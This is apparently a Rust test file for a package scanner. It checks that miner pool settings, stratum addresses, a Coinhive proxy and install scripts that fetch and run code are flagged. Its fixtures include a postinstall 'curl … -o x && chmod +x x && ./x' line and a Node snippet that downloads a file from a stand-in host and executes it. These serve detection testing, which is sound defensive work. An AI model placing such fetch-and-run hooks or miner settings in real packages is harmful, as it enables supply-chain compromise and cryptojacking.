//! What is no program of the web: texts that name pools, miners' settings, install scripts, native executables.

use crate::harness::{Folder, module, scan};
use crate::make::{tar, tgz};
use crate::packages::line;
use serde_json::json;

const SETTINGS: &str = r#"{"pools": [{"algo": "rx/0", "url": "pool.example.net:443", "user": "w", "pass": "x"}]}"#;

fn rule(run: &crate::harness::Run, end: &str) -> String {
    line(run, end)["evidence"][0]["rule"].as_str().expect("a rule").to_owned()
}

#[test]
fn texts_of_a_package_that_name_pools_and_miners_are_suspicious() {
    let install = r#"{"scripts": {"postinstall": "curl http://f.example/x -o x && chmod +x x && ./x"}}"#;
    for (name, content, expected) in [
        ("lib/config.json", SETTINGS, "text/miner-settings"),
        ("etc/env", "POOL=stratum+tcp://pool.example.net:3333", "text/pool-address"),
        ("a.yml", "proxy: wss://ws001.coinhive.com/proxy", "text/listed-pool"),
        ("package.json", install, "text/install-fetch"),
    ] {
        let inner = format!("package/{name}");
        let files: &[(&str, &[u8])] =
            &[("package/index.js", b"x()"), (&inner, content.as_bytes()), ("LICENSE", b"MIT")];
        let folder = Folder::new();
        let run = scan(&folder.file("a.tgz", tgz(files)));
        run.assert_code(0);
        assert_eq!(rule(&run, name), expected);
        assert_eq!(line(&run, "a.tgz")["level"], "suspicious");
        let folder = Folder::new();
        files.iter().for_each(|(name, content)| drop(folder.file(name, content)));
        let run = scan(folder.path());
        assert_eq!((rule(&run, name).as_str(), run.lines().len()), (expected, 2));
    }
}

#[test]
fn an_installer_that_fetches_and_runs_is_the_packages() {
    let package = r#"{"name": "a", "scripts": {"postinstall": "node lib/setup"}}"#;
    let fetches = "const fs = require('fs'), { exec } = require('child_process'); require('https')\
                   .get('https://f.example/x', r => r.pipe(fs.createWriteStream('x')).on('finish', () => exec('./x')));";
    for (script, level) in [(fetches, "suspicious"), ("console.log('thanks')", "clean")] {
        let files: &[(&str, &[u8])] =
            &[("package/package.json", package.as_bytes()), ("package/lib/setup.js", script.as_bytes())];
        let folder = Folder::new();
        let run = scan(&folder.file("a.tgz", tgz(files)));
        run.assert_code(0);
        assert_eq!(line(&run, "package.json")["level"], level, "{run:?}");
        assert_eq!(line(&run, "a.tgz")["level"], level);
        assert_eq!(line(&run, "setup.js")["level"], "clean", "alone it says nothing");
        let folder = Folder::new();
        files.iter().for_each(|(name, content)| drop(folder.file(name, content)));
        assert_eq!(line(&scan(folder.path()), "package.json")["level"], level);
    }
}

#[test]
fn executables_are_listed_and_their_strings_looked_through() {
    let lawful = [b"\x7fELF\x02\x01\x01\0", &[0; 500][..], b"usage: x\0"].concat();
    let miner = [&lawful[..], b"stratum+ssl://pool.example.net:443\0"].concat();
    let folder = Folder::new();
    let run = scan(&folder.file("a.tar", tar(&[("a.wasm", &module(1)), ("bin/x", &lawful)])));
    run.assert_code(0);
    let listed = line(&run, "bin/x");
    assert_eq!((&listed["level"], &listed["complete"]), (&json!("clean"), &json!(true)));
    assert_eq!(listed["gaps"][0]["reason"], "native");
    assert_eq!(line(&run, "a.tar")["complete"], true);
    let run = scan(&folder.file("a.tar", tar(&[("bin/x", &miner)])));
    run.assert_code(0);
    assert_eq!(rule(&run, "bin/x"), "text/pool-address");
    assert_eq!(line(&run, "bin/x")["evidence"][0]["location"]["kind"], "bytes");
}

#[test]
fn evidence_in_a_text_says_the_line() {
    let folder = Folder::new();
    let run = scan(&folder.file("config.json", format!("{{\"a\":\n  {SETTINGS}}}")));
    run.assert_code(0);
    assert_eq!(line(&run, "config.json")["evidence"][0]["location"]["line"], 2);
    assert_eq!(line(&run, "config.json")["kind"], "container");
}
